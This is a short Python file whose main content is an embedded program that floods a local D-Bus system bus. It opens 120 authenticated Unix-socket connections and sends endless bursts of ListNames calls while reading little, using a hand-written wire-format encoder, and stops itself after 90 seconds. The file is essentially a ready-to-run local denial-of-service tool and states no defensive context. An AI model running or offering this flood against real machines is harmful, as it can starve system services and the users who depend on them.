"""A flood of a system bus by a local account: 120 connections, each of which asks without end and reads little.

A program of the standard library for a machine that has nothing else. It speaks the D-Bus wire format
(dbus.freedesktop.org/doc/dbus-specification.html): EXTERNAL authentication, Hello, then ListNames, whose answers are
larger than the calls. It ends by itself after 90 s.
"""

from typing import Final

CONNECTIONS: Final = 120
PROGRAM: Final = f"""
import os, selectors, signal, socket, struct, sys
signal.alarm(90)

def text(kind, code, value):
    data = value.encode()
    return struct.pack("<BBBxI", code, 1, ord(kind), len(data)) + data + bytes(1)

def call(serial, member):
    fields = b""
    for field in (text("o", 1, "/org/freedesktop/DBus"), text("s", 2, "org.freedesktop.DBus"),
                  text("s", 3, member), text("s", 6, "org.freedesktop.DBus")):
        fields += bytes(-len(fields) % 8) + field
    head = struct.pack("<BBBBIII", ord("l"), 1, 0, 1, 0, serial, len(fields)) + fields
    return head + bytes(-len(head) % 8)

burst = b"".join(call(serial, "ListNames") for serial in range(2, 402))
selector = selectors.DefaultSelector()
for _ in range({CONNECTIONS}):
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(bytes(1) + b"AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + bytes([13, 10]))
    if not bus.recv(4096).startswith(b"OK"):
        sys.exit("the bus did not let us in")
    bus.sendall(b"BEGIN" + bytes([13, 10]) + call(1, "Hello"))
    bus.setblocking(False)
    selector.register(bus, selectors.EVENT_READ | selectors.EVENT_WRITE, [burst])
print("flooding", flush=True)
while selector.get_map():
    for key, ready in selector.select():
        try:
            if ready & selectors.EVENT_READ and not key.fileobj.recv(1 << 16):
                raise ConnectionError
            if ready & selectors.EVENT_WRITE:
                sent = key.fileobj.send(key.data[0])
                key.data[0] = key.data[0][sent:] or burst
        except BlockingIOError:
            continue
        except OSError:
            selector.unregister(key.fileobj)
"""
